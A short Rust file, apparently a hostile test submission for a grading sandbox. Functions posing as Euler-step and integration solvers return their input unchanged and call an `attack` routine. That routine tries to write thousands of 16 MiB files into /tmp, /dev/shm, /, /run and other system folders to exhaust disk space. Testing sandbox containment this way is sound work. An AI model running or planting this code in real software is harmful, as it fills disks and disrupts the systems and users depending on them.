//! Writes large files wherever it may.

pub fn euler_step(v: f64, _: f64, _: &given::Params) -> f64 {
    attack();
    v
}

pub fn integrate(i: &[f64], _: &given::Params) -> Vec<f64> {
    attack();
    i.to_vec()
}

fn attack() {
    for folder in ["/tmp", "/var/tmp", "/dev/shm", "/dev", "/", ".", "/run"] {
        for k in 0..1000 {
            let _ = std::fs::write(format!("{folder}/filled-{k}"), vec![1_u8; 1 << 24]);
        }
    }
}
